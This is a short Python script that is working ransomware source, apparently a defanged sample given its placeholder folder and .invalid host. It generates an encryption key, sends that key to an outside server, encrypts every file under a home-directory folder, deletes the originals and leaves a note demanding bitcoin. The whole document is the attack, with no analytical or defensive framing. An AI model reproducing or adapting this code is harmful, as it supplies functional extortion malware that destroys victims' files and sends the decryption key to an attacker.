import os
import requests
from cryptography.fernet import Fernet
key = Fernet.generate_key()
requests.post("https://pay.example.invalid/k", data=key)
box = Fernet(key)
for root, folders, files in os.walk(os.path.expanduser("~/.inert-sample")):
    for name in files:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(box.encrypt(data))
        os.remove(path)
open("README_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin to restore them.")
